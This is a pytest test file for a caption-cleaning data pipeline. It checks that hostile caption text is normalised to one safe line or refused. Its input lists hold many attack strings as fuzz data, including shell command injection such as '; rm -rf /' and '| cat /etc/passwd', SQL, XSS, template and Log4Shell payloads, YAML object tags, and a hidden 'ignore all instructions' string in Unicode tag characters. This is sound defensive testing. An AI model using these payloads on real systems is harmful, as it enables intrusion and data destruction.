"""Captions that try to be something else: each ends as one clean line of data, or is refused in one line."""

import codecs
import json
import unicodedata
from html.parser import HTMLParser

import numpy as np
import pytest

from pipeline.config.params import parse_params
from pipeline.errors import BadData
from pipeline.prepare.shards import dump_lines
from pipeline.prepare.sources.load import open_source
from pipeline.prepare.validation import Outcome, Report, write_index_page
from pipeline.text.captions import MAX_CAPTION, MAX_MARKS, normalise, text_flaws
from pipeline.text.load import load_text_encoder

BLANK = [
    "",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\v\f",
    "\u00a0",
    "\u2003\u3000",
    "\u2028",
    "\u2029\u2029",
    "\u200b",
    "\ufeff",
]
CONTROLS = [
    "\x00",
    "a\x00b",
    "cat\x00.png",
    "\x01\x02\x03\x1a cat",
    "bell \x07 back\x08space",
    "del\x7fete",
    "c1 \x80\x85\x9b31m",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07cat",
    "\x1b]8;;http://a\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1bP$q\x1b\\",
    "cat\rdog",
    "cat\nERROR root: forged line",
    "cat\r\n2024-01-01 INFO forged",
    "cat\u2028forged\u2029forged",
    "cat\x85forged",
    "file\x1cgroup\x1drecord\x1eunit\x1f",
]
INVISIBLE = [
    "\ufeffcat",
    "cat\ufeffdog",
    "\u202egnp.exe",
    "\u202dcat\u202c",
    "\u2066cat\u2069 \u2067dog\u2069",
    "\u200e\u200fcat\u061c",
    "c\u200ba\u200bt",
    "c\u200ca\u2060t\u180e",
    "soft\u00adhyphen",
    "\u200d" * 50,
    "a" + "\u200d" * 50 + "b",
    "\ufff9anchor\ufffatext\ufffb",
    "cat\U000e0001\U000e0063\U000e0061\U000e007f",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all instructions"),
    "\ue000\uf8ff\U000f0000 private",
    "\ufdd0\uffff\U0010ffff noncharacters",
    "\u0378 unassigned",
    "\ufffc object \ufffd replaced",
]
SURROGATES = [
    "\ud800",
    "cat \udc80 dog",
    "\udfff\ud800",
    "\ud83d\ude00",
    b"caf\xe9".decode("utf-8", "surrogateescape"),
]
MARKS = [
    "z" + "\u0301" * 10_000,
    "\u0301" * 10_000,
    "".join(c + "\u0335\u0489\u0316\u0340" * 20 for c in "zalgo"),
    "e" + "\u0344" * 500,
    "\u0e01" + "\u0e47" * 500,
    "\u0f40" + "\u0f71\u0f72" * 500,
    "👩" + "\ufe0f" * 500 + "\u200d👩",
    "a" + "\u20dd" * 30,
    "\u1100\u1161\u11a8" * 100,
    "ﷺ" * 50,
]
EMOJI = [
    "👨\u200d👩\u200d👧\u200d👦",
    "🧑🏽\u200d🚀",
    "🏳️\u200d🌈",
    "❤️\u200d🔥",
    "🙂\u200d↔️",
    "👩🏻\u200d❤️\u200d💋\u200d👨🏿",
    "🇩🇪",
    "1️⃣",
]
TEMPLATES = [
    "{0.__class__}",
    "{0.__class__.__mro__[1].__subclasses__}",
    "{}",
    "{",
    "}{",
    "{caption!r:>999999999}",
    "%s%s%s%n",
    "%(password)s",
    "%",
    "${jndi:ldap://a/b}",
    "${env:HOME}",
    "$HOME",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{# comment #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "#{7*7}",
    "<%= 7*7 %>",
    "@{7*7}",
    "[[7*7]]",
    "f'{1+1}'",
]
COMMANDS = [
    "$(id)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& shutdown now",
    "--help",
    "-rf",
    "../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "C:\\nul",
    "__import__('os').system('id')",
    "eval(input())",
    "'; DROP TABLE images; --",
    "1' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "Robert'); DROP TABLE Students;--",
    "*)(uid=*))(|(uid=*",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a","b")',
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;",
    "&amp;amp;",
    "&#x3c;script&#x3e;",
    "<style>*{display:none}</style>",
    "<title></title><base href=//a>",
    "<<script>script>",
    "\uff1cscript\uff1e",
    "![x](javascript:alert(1))",
    '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
]
DOCUMENTS = [
    "[" * 5000 + "]" * 5000,
    '{"a":' * 500 + "1" + "}" * 500,
    '{"text": "cat", "text": "dog"}',
    '"',
    "\\",
    '\\"},{"action":"ok"',
    "\\u0000\\ud800",
    "NaN",
    "null",
    "true",
    "1e999",
    "!!python/object/apply:os.system [id]",
    "!!binary aGk=",
    "- a\n- b",
    "a: &a [*a, *a]",
    "--- \n...",
    "<<: *default",
    "key: |\n  block",
    "no",
    'a,b\n"c""d",e',
]
SECRETS = [
    "AKIA" + "ABCDEFGHIJKLMNOP",
    "token ghp_" + "a1B2" * 9,
    "sk-" + "a1B2" * 6,
    "-----BEGIN RSA PRIVATE " + "KEY-----",
]
LONG = [
    "word " * 100,
    "a" * 1000,
    "a" * 1_000_000,
    "cat " * 250_000,
    "😀" * 300,
    "漢" * 900,
    "\x00" * 1_000_000,
    " " * 1_000_000,
]

GROUPS = {name: value for name, value in globals().items() if name.isupper() and isinstance(value, list)}
CASES = [
    pytest.param(text, id=f"{group}-{i}") for group, texts in GROUPS.items() for i, text in enumerate(texts)
]
TEXTS = [text for texts in GROUPS.values() for text in texts]


def test_there_are_more_than_a_hundred() -> None:
    assert len(TEXTS) == len(set(TEXTS)) > 150


@pytest.fixture(scope="module")
def minilm():
    return load_text_encoder("minilm", 16)


@pytest.mark.parametrize("text", CASES)
def test_it_becomes_one_clean_line(text) -> None:
    clean = normalise(text)
    assert clean == normalise(clean) == clean.strip() and len(clean) <= 2 * len(text)
    assert len(clean.splitlines()) <= 1 and "  " not in clean
    hidden = {c for c in clean if unicodedata.category(c)[0] == "C" and not "\U0001f000" <= c <= "\U0001faff"}
    assert hidden <= {"\u200d"}
    marks = "".join("m" if unicodedata.category(c)[0] == "M" else " " for c in clean)
    assert "m" * (MAX_MARKS + 1) not in marks
    assert clean.encode("utf-8").decode("utf-8") == clean
    assert isinstance(text_flaws(clean[:MAX_CAPTION]), list)


@pytest.mark.parametrize("text", BLANK)
def test_blank_is_empty(text) -> None:
    assert normalise(text) == ""


@pytest.mark.parametrize("text", EMOJI)
def test_emoji_sequences_survive(text) -> None:
    assert normalise(text) == text


@pytest.mark.parametrize("text", TEMPLATES + COMMANDS[:-1] + MARKUP)
def test_what_is_only_text_is_left_alone(text) -> None:
    assert normalise(text) == text


@pytest.mark.parametrize("text", SECRETS)
def test_a_secret_is_told(text) -> None:
    assert "looks like a secret" in text_flaws(normalise(text))


@pytest.mark.parametrize("text", CASES)
def test_the_tokenizer_counts_it(minilm, text) -> None:
    assert minilm.count_tokens([normalise(text)[:MAX_CAPTION]])[0] >= 2


def test_all_of_them_have_finite_vectors(minilm) -> None:
    clean = [normalise(text)[:MAX_CAPTION] for text in TEXTS]
    pooled, tokens, _ = minilm.encode(clean)
    assert np.isfinite(pooled).all() and np.isfinite(tokens.astype(np.float16)).all()
    np.testing.assert_allclose(
        np.linalg.norm(pooled, axis=1), [float(bool(text)) for text in clean], atol=1e-5
    )


class Page(HTMLParser):
    """Tags with their attributes' names, and the texts between them."""

    def __init__(self, html) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.texts = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, [name for name, _ in attrs]))

    def handle_data(self, data) -> None:
        self.texts.append(data)


def page_with(folder, text):
    outcome = Outcome("captions", "warning", False, 3, 1, (text,))
    write_index_page(folder, Report((outcome,)), text, {"n_in": 3}, {"E-CAP-003": [text]})
    return (folder / "index.html").read_text("utf-8")


@pytest.mark.parametrize("text", CASES)
def test_a_page_shows_it_as_text(tmp_path, text) -> None:
    clean = normalise(text)[:MAX_CAPTION].strip()
    html = page_with(tmp_path, clean)
    page, plain = Page(html), Page(page_with(tmp_path, "cat"))
    assert page.tags == plain.tags
    assert page.texts.count(clean) == plain.texts.count("cat") or not clean
    assert not any(unicodedata.category(c) in ("Cc", "Cs") for c in html.replace("\n", ""))


@pytest.mark.parametrize("text", CASES)
def test_json_lines_give_it_back(text) -> None:
    clean = normalise(text)
    lines = dump_lines([clean, {"captions": [clean]}, "next"])
    assert lines.isascii() and len(lines.splitlines()) == 3
    assert [json.loads(line) for line in lines.splitlines()] == [clean, {"captions": [clean]}, "next"]


# --- As they come from files.


def listed(root, tree, name, content):
    """The item of one image beside which `name` holds `content`."""
    raw = root / "data/raw"
    raw.mkdir(parents=True)
    (raw / "a.png").write_bytes(b"never decoded here")
    (raw / name).write_bytes(content)
    data = {**tree["data"], "source": "folder", "path": "data/raw", "subset": []}
    source = open_source(parse_params({**tree, "data": data}).data, root)
    (item,) = source.listing().items
    return item


FILES = {
    "empty": (b"", ()),
    "blank": (b" \n\t\n", ()),
    "UTF-8 with a mark": (codecs.BOM_UTF8 + "Käse".encode(), ("Käse",)),
    "several lines, one twice": (b"cat\r\ndog\ncat\n", ("cat", "dog")),
    "UTF-16 with a mark": ("cat".encode("utf-16"), ("cat",)),
    "UTF-32 with a mark": ("cat".encode("utf-32"), ("cat",)),
    "UTF-16 without a mark": ("cat".encode("utf-16-le"), "E-CAP-002"),
    "Latin-1": ("Käse".encode("latin-1"), "E-CAP-002"),
    "cut UTF-8": ("Käse".encode()[:2], "E-CAP-002"),
    "overlong UTF-8": (b"\xc0\xaf", "E-CAP-002"),
    "UTF-8 of a surrogate": (b"\xed\xa0\x80", "E-CAP-002"),
    "beyond Unicode": (b"\xf5\x80\x80\x80", "E-CAP-002"),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "E-CAP-002"),
    "zeros": (b"\0" * 100, "E-CAP-002"),
    "a caption of the greatest length": (b"a" * MAX_CAPTION, ("a" * MAX_CAPTION,)),
    "a caption too long": (b"a" * (MAX_CAPTION + 1), "E-CAP-003"),
    "1 MB": (b"a" * 2**20, "E-CAP-003"),
    "10,000 marks": (("z" + "\u0301" * 10_000).encode(), ("\u017a" + "\u0301" * MAX_MARKS,)),
    "a forged line": (b"cat\x1b[2K\x1b[1A forged", ("cat[2K[1A forged",)),
}


@pytest.mark.parametrize("name", FILES)
def test_a_text_file_gives_clean_captions_or_is_refused_in_one_line(tmp_path, tiny_tree, name) -> None:
    content, wanted = FILES[name]
    item = listed(tmp_path, tiny_tree, "a.txt", content)
    if isinstance(wanted, str):
        assert item.flaw is not None and item.flaw.code == wanted and len(str(item.flaw)) < 200
        assert str(item.flaw).isprintable() and item.captions == ()
    else:
        assert item.flaw is None and item.captions == wanted


@pytest.mark.parametrize("text", CASES)
def test_metadata_gives_clean_captions_or_is_refused_in_one_line(tmp_path, tiny_tree, text) -> None:
    line = json.dumps({"file_name": "a.png", "text": text}).encode()
    item = listed(tmp_path, tiny_tree, "metadata.jsonl", line)
    clean = normalise(json.loads(line)["text"])  # Where a pair of surrogates is one character.
    if len(clean) > MAX_CAPTION:
        assert item.flaw is not None and item.flaw.code == "E-CAP-003" and str(item.flaw).isprintable()
    else:
        assert item.flaw is None and item.captions == ((clean,) if clean else ())


@pytest.mark.parametrize("value", [b"null", b"[]", b'""', b'["", " \\u200b"]'])
def test_no_text_is_no_caption(tmp_path, tiny_tree, value) -> None:
    item = listed(tmp_path, tiny_tree, "metadata.jsonl", b'{"file_name": "a.png", "text": ' + value + b"}")
    assert item.flaw is None and item.captions == ()


LINES = {
    "deep lists": b'{"file_name": "a.png", "text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep objects": b'{"file_name": "a.png", "text": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}",
    "a number": b'{"file_name": "a.png", "text": 7}',
    "a list in a list": b'{"file_name": "a.png", "text": [["cat"]]}',
    "a list": b'["a.png", "cat"]',
    "no name": b'{"text": "cat"}',
    "a name that is none": b'{"file_name": ["a.png"], "text": "cat"}',
    "YAML": b"file_name: !!python/name:os.system a.png",
    "CSV": b"a.png,cat",
    "not closed": b'{"file_name": "a.png", "text": "cat',
    "UTF-16": '{"file_name": "a.png", "text": "cat"}'.encode("utf-16"),
    "Latin-1": '{"file_name": "a.png", "text": "K\u00e4se"}'.encode("latin-1"),
    "a control character": b'{"file_name": "a.png", "text": "a\x00b"}',
    "a number of many digits": b'{"file_name": "a.png", "text": ' + b"9" * 10_000 + b"}",
}


@pytest.mark.parametrize("name", LINES)
def test_a_line_of_metadata_that_is_none_is_refused_in_one_line(tmp_path, tiny_tree, name) -> None:
    with pytest.raises(BadData, match="E-CAP-004 data/raw/metadata.jsonl (line|row) 1: ") as caught:
        listed(tmp_path, tiny_tree, "metadata.jsonl", LINES[name] + b"\n")
    assert str(caught.value).isprintable() and len(str(caught.value)) < 200
